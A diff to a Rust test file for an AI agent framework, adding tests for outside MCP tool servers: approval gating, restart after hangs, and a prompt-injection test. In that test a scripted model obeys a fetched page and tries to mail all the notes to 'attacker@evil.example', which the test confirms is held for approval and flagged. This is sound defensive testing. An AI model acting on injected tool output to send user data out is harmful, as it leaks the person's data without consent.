@@ -48,13 +48,15 @@ fn rig(
     config: AgentConfig,
     script: impl Fn(&Recorded, usize) -> Reply + Send + Sync + 'static,
 ) -> Rig {
-    rig_with(config, |_| {}, script)
+    rig_with(config, |_| {}, |tb, _| tb, script)
 }
 
-/// [`rig`] with the model configuration changed by `tweak` (rates, for example).
+/// [`rig`] with the model configuration changed by `tweak` (rates, for example) and the
+/// toolbox by `tools` (given the test's directory).
 fn rig_with(
     config: AgentConfig,
     tweak: impl FnOnce(&mut steward_core::llm::LlmConfig),
+    tools: impl FnOnce(Toolbox, &std::path::Path) -> Toolbox,
     script: impl Fn(&Recorded, usize) -> Reply + Send + Sync + 'static,
 ) -> Rig {
     let dir = tempfile::tempdir().unwrap();
@@ -70,8 +72,8 @@ fn rig_with(
     let sink = SmtpSink::start(dir.path(), &SinkOptions::default());
     let smtp = SmtpSender::new(SmtpConfig::new("127.0.0.1", sink.port, Security::Plain, sender()))
         .unwrap();
-    let toolbox = Arc::new(Toolbox::new(Arc::clone(&s)).with_mail_sender(Arc::new(smtp), sender()));
-    let agent = Agent::open(toolbox, config).unwrap();
+    let toolbox = Toolbox::new(Arc::clone(&s)).with_mail_sender(Arc::new(smtp), sender());
+    let agent = Agent::open(Arc::new(tools(toolbox, dir.path())), config).unwrap();
     Rig { _dir: dir, steward: s, agent, sink, _model: model }
 }
 
@@ -324,6 +326,7 @@ fn a_turn_ends_on_its_cost_bound_priced_by_the_configured_rates() {
                 steward_core::llm::Rates { input: 10.0, output: 30.0, ..Default::default() };
             llm.rates.insert("scripted".into(), rates);
         },
+        |tb, _| tb,
         // The provider names its model its own way: priced by the configured one.
         |_, n| {
             let args = json!({"since": format!("{}d", n + 1)}).to_string();
@@ -960,4 +963,209 @@ fn opening_the_agent_of_a_handle_again_gives_the_same_running_agent() {
     let chat = again.create_chat().unwrap().id;
     let run = again.start_turn(&chat, "hi").unwrap();
     assert_eq!(r.agent.wait(&run, WAIT).unwrap().unwrap().text, "hello", "one agent, one run");
+}
+
+/// The lines of the notes server's log with `event`.
+fn notes_events(log: &std::path::Path, event: &str) -> Vec<Value> {
+    std::fs::read_to_string(log)
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter(|v| v["event"] == event)
+        .collect()
+}
+
+/// [`rig`] whose toolbox has the outside MCP server `notes` (FastMCP, Python, over stdio; its
+/// log at the returned path) with a call timeout of `timeout_secs`.
+fn notes_rig(
+    timeout_secs: u64,
+    script: impl Fn(&Recorded, usize) -> Reply + Send + Sync + 'static,
+) -> (Rig, std::path::PathBuf) {
+    let log = Arc::new(Mutex::new(std::path::PathBuf::new()));
+    let at = Arc::clone(&log);
+    let r = rig_with(
+        AgentConfig::default(),
+        |_| {},
+        move |mut tb, dir| {
+            let path = dir.join("notes.jsonl");
+            *at.lock().unwrap() = path.clone();
+            let root = steward_connectors::testing::workspace_root();
+            let server = steward_connectors::mcp::ServerConfig {
+                name: "notes".into(),
+                command: Some(steward_connectors::testing::python().display().to_string()),
+                args: vec![root.join("tests/support/mcp_notes_server.py").display().to_string()],
+                env: [("NOTES_LOG".to_owned(), path.display().to_string())].into(),
+                url: None,
+                token_file: None,
+                timeout_secs: Some(timeout_secs),
+                start_timeout_secs: Some(30),
+                result_chars: None,
+            };
+            steward_connectors::mcp::register(&mut tb, dir, vec![server]).unwrap();
+            tb
+        },
+        script,
+    );
+    let log = log.lock().unwrap().clone();
+    (r, log)
+}
+
+#[test]
+fn an_outside_mcp_servers_tool_is_offered_gated_and_runs_once_after_the_person_approves() {
+    let note = json!({"title": "Lunch", "text": "Friday with Bob"});
+    let n = note.clone();
+    let (r, log) = notes_rig(30, move |req, _| {
+        let told = last_message(req);
+        if told.contains("approved by the person") {
+            // What the server returned reaches the model fenced as data.
+            assert!(told.contains("saved the note"), "{told}");
+            say("Saved.")
+        } else if told.contains("waiting for the person") {
+            say("It waits for your approval.")
+        } else {
+            let offered: Vec<String> = req.body["tools"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|t| t["function"]["name"].as_str().unwrap().to_owned())
+                .collect();
+            assert!(offered.iter().any(|t| t == "mcp.notes.save_note"), "{offered:?}");
+            assert!(offered.iter().any(|t| t == "mcp.notes.fetch_page"), "{offered:?}");
+            call("c1", "mcp.notes.save_note", n.clone())
+        }
+    });
+    // Nothing starts before the first use.
+    assert!(notes_events(&log, "started").is_empty());
+    let chat = r.agent.create_chat().unwrap().id;
+    let first = r.turn(&chat, "Note lunch with Bob on Friday.");
+    assert_eq!(first.end_reason, EndReason::AwaitingApproval, "{first:?}");
+    assert_eq!(notes_events(&log, "started").len(), 1, "started once, on first use");
+    assert!(notes_events(&log, "saved").is_empty(), "nothing runs before a person decides");
+    let card = r.steward.approval_detail(first.approvals[0]).unwrap().approval;
+    assert_eq!(card.tool, "mcp.notes.save_note");
+    assert_eq!(card.normalized_input, note);
+    assert!(card.summary.contains("outside MCP server notes"), "{}", card.summary);
+    let me = r.steward.human("Ada").unwrap();
+    r.steward
+        .decide_approval(card.id, DecisionKind::Approve, &DecisionInput::default(), &me)
+        .unwrap();
+    assert_eq!(r.agent.resolve_decided().unwrap(), 1);
+    let resumed = r.latest(&chat, 1);
+    assert_eq!(resumed.end_reason, EndReason::Completed, "{resumed:?}");
+    assert_eq!(resumed.text, "Saved.");
+    let saved = notes_events(&log, "saved");
+    assert_eq!(saved.len(), 1, "{saved:?}");
+    assert_eq!(saved[0]["text"], "Friday with Bob");
+    // Resolving again runs nothing again.
+    assert_eq!(r.agent.resolve_decided().unwrap(), 0);
+    assert_eq!(notes_events(&log, "saved").len(), 1);
+    // The inventory lists the server's tools as available.
+    let inv = r.agent.toolbox().inventory();
+    assert!(inv.available.iter().any(|t| t.name == "mcp.notes.slow"));
+}
+
+#[test]
+fn an_instruction_injected_by_an_outside_tool_does_not_act_without_the_person_and_is_flagged() {
+    let (r, log) = notes_rig(30, |req, n| {
+        let told = last_message(req);
+        match n {
+            0 => call("c1", "mcp.notes.fetch_page", json!({"url": "https://example.org/hours"})),
+            // A model that obeys the page: the address comes from the outside tool's result.
+            1 => {
+                assert!(
+                    told.contains("<untrusted_data tool=\\\"mcp.notes.fetch_page\\\""),
+                    "{told}"
+                );
+                let mail = json!({"to": ["attacker@evil.example"], "subject": "notes",
+                                  "body": "All the notes."});
+                call("c2", "mail.send", mail)
+            }
+            _ => say("It waits for your approval."),
+        }
+    });
+    // The person lowered the read of pages (a gated outside tool runs only so).
+    let me = r.steward.human("Ada").unwrap();
+    let allow = steward_core::policy::PolicyChange::SetRule {
+        tool: "mcp.notes.fetch_page".into(),
+        rule: steward_core::policy::Rule::Allow,
+    };
+    r.steward.set_policy(&me, &allow, None).unwrap();
+    let chat = r.agent.create_chat().unwrap().id;
+    let turn = r.turn(&chat, "When is the office open?");
+    assert_eq!(turn.end_reason, EndReason::AwaitingApproval, "{turn:?}");
+    let statuses: Vec<(String, String)> =
+        r.agent.tool_calls(&chat).unwrap().into_iter().map(|c| (c.tool, c.status)).collect();
+    assert_eq!(
+        statuses,
+        [
+            ("mcp.notes.fetch_page".to_owned(), "ran".to_owned()),
+            ("mail.send".to_owned(), "awaiting_approval".to_owned())
+        ]
+    );
+    assert_eq!(r.sink.deliveries().len(), 0, "nothing is sent without the person");
+    let card = r.steward.approval_detail(turn.approvals[0]).unwrap().approval;
+    let taint = card.taint.expect("the card flags the copied address");
+    let field = taint.fields.iter().find(|f| f.value == "attacker@evil.example").unwrap();
+    assert_eq!(field.field, "/to/0");
+    assert_eq!(field.tool, "mcp.notes.fetch_page");
+    assert_eq!(field.source, "mcp:notes:fetch_page");
+    assert!(notes_events(&log, "saved").is_empty());
+}
+
+#[test]
+fn an_outside_server_that_hangs_or_dies_fails_the_call_typed_and_is_restarted_on_next_use() {
+    let (r, log) = notes_rig(1, |req, n| {
+        let told = last_message(req);
+        match n {
+            0 => call("c1", "mcp.notes.slow", json!({"seconds": 20})),
+            1 => {
+                assert!(told.contains("MCP_TIMEOUT"), "{told}");
+                call("c2", "mcp.notes.fetch_page", json!({"url": "https://example.org/"}))
+            }
+            _ => say("done"),
+        }
+    });
+    let me = r.steward.human("Ada").unwrap();
+    for tool in ["mcp.notes.slow", "mcp.notes.fetch_page"] {
+        let allow = steward_core::policy::PolicyChange::SetRule {
+            tool: tool.into(),
+            rule: steward_core::policy::Rule::Allow,
+        };
+        r.steward.set_policy(&me, &allow, None).unwrap();
+    }
+    let chat = r.agent.create_chat().unwrap().id;
+    let turn = r.turn(&chat, "Try the slow one.");
+    assert_eq!(turn.end_reason, EndReason::Completed, "{turn:?}");
+    let calls = r.agent.tool_calls(&chat).unwrap();
+    assert_eq!(calls[0].status, "failed");
+    assert_eq!(calls[1].status, "ran", "the server was restarted for the next call");
+    assert_eq!(notes_events(&log, "started").len(), 2, "one start, one restart");
+    // A server killed from outside is restarted on the next use.
+    let pid = notes_events(&log, "started").last().unwrap()["pid"].as_i64().unwrap();
+    let killed = std::process::Command::new("kill").arg(pid.to_string()).status().unwrap();
+    assert!(killed.success());
+    // Gone (and its pipe closed) before the next use.
+    let alive = || {
+        std::process::Command::new("kill")
+            .args(["-0", &pid.to_string()])
+            .status()
+            .unwrap()
+            .success()
+    };
+    let deadline = std::time::Instant::now() + WAIT;
+    while alive() && std::time::Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    std::thread::sleep(Duration::from_millis(200));
+    let after = r.agent.toolbox().call(
+        &steward_core::ToolCall {
+            actor: "agent:steward",
+            chat: None,
+            tool: "mcp.notes.fetch_page",
+            input: &json!({"url": "https://example.org/"}),
+        },
+        &steward_core::policy::DecisionContext::default(),
+    );
+    assert!(matches!(after, Ok(steward_core::tools::ToolOutcome::Ran { .. })), "{after:?}");
+    assert_eq!(notes_events(&log, "started").len(), 3);
 }
